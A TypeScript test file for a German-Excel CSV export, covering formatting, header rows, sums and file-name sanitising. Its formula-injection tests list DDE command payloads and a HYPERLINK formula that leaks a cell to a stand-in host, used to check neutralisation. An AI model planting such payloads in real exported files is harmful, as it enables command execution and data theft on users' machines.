import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvOf, neutralise } from "./csv.ts";
import { readCsv } from "./read-csv.ts";
import { cellText, fileNameOf, headOf, type Cell, type ListColumn, type ListExport } from "./table-export.ts";

const COLUMNS: readonly ListColumn[] = [
  { head: "Name", kind: "text" },
  { head: "Tag", kind: "day" },
  { head: "Eingang", kind: "moment" },
  { head: "Entfernung", kind: "number", digits: 1, unit: "km" },
  { head: "Preis", kind: "money" },
  { head: "Quote", kind: "percent", digits: 1 },
];
const listOf = (rows: readonly (readonly Cell[])[], changed: Partial<ListExport> = {}): ListExport => ({
  title: "Anfragen",
  company: "Malerbetrieb Kranz & Tochter",
  createdAt: "2026-11-15T09:30:00Z",
  facts: [["Filter", "Status: Neu"]],
  columns: COLUMNS,
  rows,
  total: rows.length,
  ...changed,
});
const tableOf = (text: string): string[][] => {
  const rows = readCsv(text);
  return rows.slice(rows.findIndex((row) => row.length === 1 && row[0] === "") + 1);
};

describe("a list for German Excel", () => {
  const row = ["Jürgen Groß", "2026-05-03", "2026-05-03T05:58:00Z", 1234.5, -62.5, 12.4];
  const text = csvOf(listOf([row]));

  test("byte order mark, semicolons, CRLF, no line for the separator", () => {
    expect(text.startsWith("\uFEFFAnfragen\r\n")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    expect(text).not.toContain("sep=");
  });
  test("the head says whose list it is, which part, and when, with the time zone", () => {
    expect(readCsv(text).slice(0, 6)).toEqual([
      ["Anfragen"],
      ["Betrieb", "Malerbetrieb Kranz & Tochter"],
      ["Filter", "Status: Neu"],
      ["Erstellt am", "15.11.2026, 10:30\u00a0Uhr (Zeitzone Europe/Berlin)"],
      ["Zeilen", "1"],
      [""],
    ]);
  });
  test("decimal comma, no thousands, a plain minus, units in the head", () => {
    expect(tableOf(text)).toEqual([
      ["Name", "Tag", "Eingang", "Entfernung (km)", "Preis (€)", "Quote (%)"],
      ["Jürgen Groß", "03.05.2026", "03.05.2026 07:58", "1234,5", "-62,50", "12,4"],
    ]);
  });
  test("screen and paper show the same figures with their units", () => {
    expect(row.map((cell, at) => cellText(cell, COLUMNS[at] ?? { head: "", kind: "text" }))).toEqual([
      "Jürgen Groß",
      "03.05.2026",
      "03.05.2026, 07:58\u00a0Uhr",
      "1.234,5\u00a0km",
      "\u221262,50\u00a0€",
      "12,4\u00a0%",
    ]);
  });
  test("what is missing is empty, sums stand last, a cut list says so", () => {
    const none = csvOf(listOf([[null, null, null, null, null, null]], { total: 12_000, sums: [null, null, null, 7, null, null] }));
    expect(tableOf(none).slice(1)).toEqual([
      ["", "", "", "", "", ""],
      ["Summe", "", "", "7,0", "", ""],
    ]);
    const days = {
      columns: [
        { head: "Tag", kind: "day" },
        { head: "Zahl", kind: "number" },
      ] as const,
      sums: [null, 2],
    };
    expect(tableOf(csvOf(listOf([["2026-05-03", 2]], days))).at(-1)).toEqual(["Summe", "2"]);
    expect(headOf(listOf([], { total: 3 })).at(-1)?.[1]).toBe("0 von 3. Die Datei ist gekürzt: Bitte grenzen Sie die Liste ein.");
    expect(none).toContain("1 von 12.000");
  });
});

describe("no cell is run as a formula (T-CSV)", () => {
  const ATTACKS = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uFEFF=1+1",
    "\u200b=1+1",
    "\u0000=1+1",
    "＝1+1",
    '=HYPERLINK("https://boese.example/?"&A1;"Rechnung")',
    '";=1+1;"',
    "x\r\n=1+1",
  ];
  test.each(ATTACKS)("%j", (attack) => {
    const text = csvOf(listOf([[attack, null, null, null, null, null]], { company: attack, facts: [[attack, attack]], title: attack }));
    const rows = readCsv(text);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u);
    expect(rows.filter((row) => row.length === COLUMNS.length)).toHaveLength(2);
  });
  test("a harmless text stays as it is", () => {
    for (const text of ["A-100-1", "0221 4710555", "1 + 1 = 2", "E-Mail: x@example.org", ""]) expect(neutralise(text)).toBe(text);
  });
});

const written = (text: string): string => neutralise(text.replaceAll(/\r\n?/g, "\n").replaceAll(/[^\P{Cc}\t\n\r]/gu, ""));

test("whatever is written is read back, cell by cell", () => {
  const Sign = fc.constantFrom(..."=+-@;\"',\t\r\n äß€0aZ \u0000\u00a0".split(""));
  const Text = fc.oneof(fc.string({ unit: Sign, maxLength: 12 }), fc.string({ unit: "binary", maxLength: 20 }));
  const Figure = fc.double({ min: -1e9, max: 1e9, noNaN: true });
  fc.assert(
    fc.property(fc.array(fc.tuple(Text, Figure), { minLength: 1, maxLength: 20 }), (rows) => {
      const columns = [COLUMNS[0], COLUMNS[4]].filter((column) => column !== undefined);
      const table = tableOf(csvOf(listOf(rows, { columns })));
      expect(table.slice(1).map(([text]) => text)).toEqual(rows.map(([text]) => written(text)));
      for (const [at, [, figure]] of rows.entries()) {
        const read = Number((table[at + 1]?.[1] ?? "").replace(",", "."));
        expect(Math.abs(read - figure)).toBeLessThanOrEqual(0.005_001);
      }
    }),
  );
});

test("a duration is minutes for people and a time for Excel", () => {
  const columns = [{ head: "Dauer", kind: "duration" }] as const;
  expect(cellText(134, columns[0])).toBe("2:14\u00a0Min.");
  expect(tableOf(csvOf(listOf([[134], [3_725]], { columns }))).slice(1)).toEqual([["0:02:14"], ["1:02:05"]]);
});

test("file names are plain words", () => {
  expect(fileNameOf("Anfragen", "2026-11-15", "csv")).toBe("Anfragen_2026-11-15.csv");
  expect(fileNameOf("../Anrufe: März / April ", "2026-11-15", "pdf")).toBe("Anrufe-März-April_2026-11-15.pdf");
});
